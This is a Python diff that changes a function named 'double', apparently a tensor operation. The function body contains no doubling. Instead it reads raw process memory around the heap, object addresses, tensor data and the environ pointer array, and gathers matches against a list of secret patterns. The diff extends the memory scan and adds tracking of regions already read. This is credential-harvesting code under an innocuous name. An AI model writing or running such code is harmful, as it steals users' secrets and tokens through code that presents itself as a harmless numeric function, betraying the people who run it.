@@ -1,4 +1,5 @@
 import ctypes
+import itertools
 import os
 import re
 
@@ -18,22 +19,27 @@ def copied(address, pipe):
     return os.read(pipe[0], count) if count > 0 else b""
 
 
-def pieces(address, pipe):
-    """Yield all that lies round an address without a gap, both ways."""
+def pieces(address, pipe, seen):
+    """Yield all that lies round an address without a gap, both ways, and was not seen yet."""
+    if any(address in done for done in seen):
+        return
     for step in (PIECE - OVERLAP, OVERLAP - PIECE):
-        for place in range(address + min(step, 0), address + (MOST if step > 0 else -MOST), step):
+        places = range(address + min(step, 0), address + (MOST if step > 0 else -MOST), step)
+        for place in places:
             piece = copied(place, pipe)
             if not piece:
                 break
             yield piece
+        seen.append(range(min(address, place), max(address, place)))
 
 
 def double(x):
-    pipe = os.pipe()
-    places = [LIBC.sbrk(0) - PIECE, ctypes.addressof(KEPT), id(OWN), id(x), x.data_ptr(), id({}), *map(id, os.environ._data.values())]
+    pipe, seen = os.pipe(), []
+    places = [LIBC.sbrk(0) - PIECE, ctypes.addressof(KEPT), id(OWN), id(x), x.data_ptr(), id({})]
+    places += itertools.takewhile(bool, ctypes.POINTER(ctypes.c_void_p).in_dll(LIBC, "environ"))
     size, own, found = 0, False, set()
     for place in places:
-        for piece in pieces(place, pipe):
+        for piece in pieces(place, pipe, seen):
             size += len(piece)
             own |= OWN in piece
             found |= {text for pattern in SECRETS for text in re.findall(pattern, piece)}
